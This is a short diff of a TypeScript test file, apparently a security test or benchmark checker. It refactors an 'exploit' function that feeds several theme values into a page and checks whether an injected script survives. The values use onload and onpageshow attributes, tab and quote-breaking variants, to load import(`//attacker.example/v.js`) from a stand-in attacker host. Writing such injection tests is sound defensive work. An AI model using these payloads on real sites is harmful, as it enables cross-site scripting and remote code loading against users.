@@ -29,16 +29,17 @@ export async function works(code: Code) {
   assert.equal(tagsOf(plain).find(({ name }) => name === 'body')?.attributes.class, 'light')
 }
 
-export async function exploit(code: Code): Promise<boolean> {
-  const payload = 'import(`//attacker.example/v.js`)'
-  const themes = [
-    `dark onload=${payload}`,
-    `dark\tonload=${payload}`,
-    `dark onpageshow=${payload}`,
-    `dark' onload='${payload}`,
-    `dark" onload="${payload}`,
-  ]
-  for (const theme of themes) if (scriptsOf(await open(code, { theme })).includes(payload)) return true
+const script = 'import(`//attacker.example/v.js`)'
+const forms = [
+  `dark onload=${script}`,
+  `dark\tonload=${script}`,
+  `dark onpageshow=${script}`,
+  `dark' onload='${script}`,
+  `dark" onload="${script}`,
+]
+
+export async function exploit(code: Code, _vary?: unknown, payloads = forms): Promise<boolean> {
+  for (const theme of payloads) if (scriptsOf(await open(code, { theme })).includes(script)) return true
   return false
 }
 
